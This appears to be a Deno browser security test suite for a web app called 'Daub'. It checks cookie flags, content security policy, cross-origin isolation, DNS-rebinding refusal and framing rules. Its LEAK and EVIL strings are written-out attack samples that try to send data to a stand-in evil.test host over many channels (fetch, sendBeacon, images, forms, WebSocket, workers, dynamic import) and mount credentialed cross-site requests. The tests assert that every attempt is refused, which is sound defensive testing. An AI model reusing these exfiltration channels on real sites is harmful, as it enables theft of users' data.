import assert from "node:assert/strict";
import { openBrowser } from "../../support/browser.ts";
import { serve, type TestServer } from "./support/serve.ts";

/** A page that tries what its content policy forbids, and notes what came of it. */
const PROBE = (nonce: string) =>
  `<!doctype html><title>Daub</title>
<script nonce="${nonce}">
  globalThis.ran = ["named script"];
  addEventListener("securitypolicyviolation", (e) => ran.push("refused " + e.effectiveDirective));
</script>
<script>ran.push("nameless script")</script>
<script nonce="guessed">ran.push("script of another name")</script>
<img src="data:," onerror="ran.push('handler')">
<script nonce="${nonce}">
  try { new Function("ran.push('eval')")(); } catch { ran.push("no eval"); }
</script>`;

/** A page of ours that was talked into telling somebody else what it knows, in every way. */
const LEAK = `async ([evil, directives]) => {
  const refused = [];
  addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
  const element = (name, attributes) => {
    const made = Object.assign(document.createElement(name), attributes);
    document.body.append(made);
    return made;
  };
  await fetch(evil + "/fetch", { mode: "no-cors" }).catch(() => {});
  navigator.sendBeacon(evil + "/beacon", "secret");
  new Image().src = evil + "/image";
  element("link", { rel: "stylesheet", href: evil + "/style" });
  element("link", { rel: "prefetch", href: evil + "/prefetch" });
  element("script", { src: evil + "/script" });
  element("iframe", { src: evil + "/frame" });
  element("video", { src: evil + "/video" });
  element("object", { data: evil + "/object" });
  element("base", { href: evil + "/base/" });
  const style = element("style", { textContent:
    '@font-face { font-family: f; src: url("' + evil + '/font") } p { font-family: f }' });
  element("p", { textContent: "text" });
  const form = element("form", { action: evil + "/form", method: "post", target: "elsewhere" });
  form.submit();
  try { new WebSocket(evil.replace("http", "ws") + "/socket"); } catch {}
  try { new EventSource(evil + "/events"); } catch {}
  try { new Worker(evil + "/worker"); } catch {}
  await import(evil + "/module").catch(() => {});
  // What is refused is told when the browser comes to it; what is not might be asked for yet.
  const rest = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const isToldOfAll = () => directives.every((directive) => refused.includes(directive));
  for (let tries = 0; !isToldOfAll() && tries < 400; tries++) await rest(25);
  await rest(300);
  return { refused: [...new Set(refused)], base: document.baseURI };
}`;

/** A page of the evil site; it never asked the user for anything. */
const EVIL = (port: number) =>
  `<!doctype html><title>Evil</title>
<iframe name="frame" src="http://127.0.0.1:${port}/"></iframe>
<script>
  const origin = "http://127.0.0.1:${port}";
  const outcome = (promise) => promise.then(() => "through", () => "refused");
  const socket = new Promise((resolve, reject) => {
    const socket = new WebSocket(origin.replace("http", "ws") + "/socket?image=x");
    socket.onopen = resolve;
    socket.onerror = reject;
  });
  const script = new Promise((resolve, reject) => {
    const element = document.createElement("script");
    element.onload = resolve;
    element.onerror = reject;
    element.src = origin + "/api/images";
    document.head.append(element);
  });
  const options = { method: "POST", credentials: "include" };
  const json = { "content-type": "application/json", "x-daub": "1" };
  globalThis.attacks = Promise.all([
    outcome(socket),
    outcome(script),
    outcome(fetch(origin + "/api/images", { credentials: "include" })),
    outcome(fetch(origin + "/api/address", { ...options, headers: json, body: "{}" })),
    outcome(fetch(origin + "/api/address", { ...options, mode: "no-cors", body: "{}" })
      .then((answer) => { if (answer.type === "opaque") throw answer; })),
  ]);
</script>`;

async function serveProbe(): Promise<TestServer> {
  return await serve({
    credential: "none",
    pages: {
      respond: ({ nonce }) =>
        Promise.resolve(new Response(PROBE(nonce), { headers: { "content-type": "text/html" } })),
    },
  });
}

Deno.test("a browser keeps the rules: cookie, content policy, other origins, rebound names", async (t) => {
  await using server = await serveProbe();
  const { port } = server;
  let changes = 0;
  const renew = server.server.credentials.renewToken.bind(server.server.credentials);
  server.server.credentials.renewToken = () => (changes++, renew());
  const asked: string[] = [];
  await using evil = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen: () => {} },
    ({ url, headers }) => {
      asked.push(new URL(url).pathname + (headers.get("referer") ?? ""));
      return new Response(EVIL(port), { headers: { "content-type": "text/html" } });
    },
  );
  await using browser = await openBrowser({
    args: ["--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"],
  });
  const context = await browser.newContext();
  const page = await context.newPage();

  await t.step("3. the token leaves the address bar, and no script reads the cookie", async () => {
    await page.goto((await server.server.address()).href);
    assert.equal(page.url(), `http://127.0.0.1:${port}/`);
    assert.equal(await page.evaluate("document.cookie + document.referrer"), "");
    const [cookie, ...others] = await context.cookies();
    assert.deepEqual(others, []);
    assert.equal(cookie.httpOnly, true);
    assert.equal(cookie.sameSite, "Strict");
    assert.doesNotMatch(
      await page.evaluate(() => performance.getEntries().map((e) => e.name).join()),
      /token/,
    );
  });

  await t.step("8. only the scripts that the server named run, without eval", async () => {
    await page.waitForFunction(`ran.some((entry) => entry.startsWith("refused script-src"))`);
    const ran = await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran);
    assert.ok(ran.includes("named script") && ran.includes("no eval"), ran.join());
    for (const never of ["nameless script", "script of another name", "handler", "eval"]) {
      assert.ok(!ran.includes(never), never);
    }
  });

  await t.step("8. a page of ours can tell nobody else anything", async () => {
    const leaking = await context.newPage();
    await leaking.goto(`http://127.0.0.1:${port}/`);
    const site = `http://evil.test:${evil.addr.port}`;
    const directives = ["connect-src", "img-src", "style-src-elem", "script-src-elem"]
      .concat("frame-src", "media-src", "font-src", "form-action", "object-src", "base-uri");
    const question = JSON.stringify([site, directives]);
    const { refused, base } = await leaking.evaluate(`(${LEAK})(${question})`) as {
      refused: string[];
      base: string;
    };
    assert.deepEqual(asked, []);
    assert.equal(base, `http://127.0.0.1:${port}/`);
    for (const directive of directives) {
      assert.ok(refused.includes(directive), `${directive} is not among ${refused}`);
    }
    // A link that the user follows does not say where it was.
    await leaking.evaluate(`location.href = "${site}/link"`);
    await leaking.waitForURL(`${site}/link`);
    assert.equal(asked[0], "/link");
    await leaking.close();
  });

  // The first one is same-site, because sites know no ports: the cookie is sent along.
  const sites = [`http://127.0.0.1:${evil.addr.port}/`, `http://evil.test:${evil.addr.port}/`];
  for (const site of sites) {
    await t.step(`4. to 6. and 8. ${new URL(site).hostname} gets nothing`, async () => {
      const other = await context.newPage();
      await other.goto(site);
      const attacks = await other.evaluate(() =>
        (globalThis as unknown as { attacks: Promise<string[]> }).attacks
      );
      assert.deepEqual(attacks, Array(5).fill("refused"));
      const frame = other.frame("frame");
      assert.doesNotMatch(await frame!.content(), /<title>Daub/);
      assert.equal(changes, 0);
      await other.close();
    });
  }

  await t.step("2. a name that was rebound to this machine is refused", async () => {
    const rebound = await context.newPage();
    const answer = await rebound.goto(`http://rebound.test:${port}/`);
    assert.equal(answer!.status(), 403);
    const socket = await rebound.evaluate(() =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${location.host}/socket?image=x`);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("refused");
      })
    ).catch(() => "refused");
    assert.equal(socket, "refused");
    await rebound.close();
  });
});

Deno.test("6. and 8. a browser frames our pages on listed origins and on no other", async () => {
  let port = 0;
  const site = () =>
    Deno.serve(
      { port: 0, hostname: "127.0.0.1", onListen: () => {} },
      () =>
        new Response(`<!doctype html><iframe name="frame" src="http://127.0.0.1:${port}/">`, {
          headers: { "content-type": "text/html" },
        }),
    );
  await using lab = site();
  await using other = site();
  await using server = await serve({
    credential: "none",
    origins: [`http://127.0.0.1:${lab.addr.port}`],
  });
  ({ port } = server);
  await using browser = await openBrowser();
  const page = await browser.newPage();
  await page.goto((await server.server.address()).href);
  for (const [{ addr }, isFramed] of [[lab, true], [other, false]] as const) {
    await page.goto(`http://127.0.0.1:${addr.port}/`);
    const content = await page.frame("frame")!.content();
    assert.equal(/<title>Daub/.test(content), isFramed, content);
  }
});
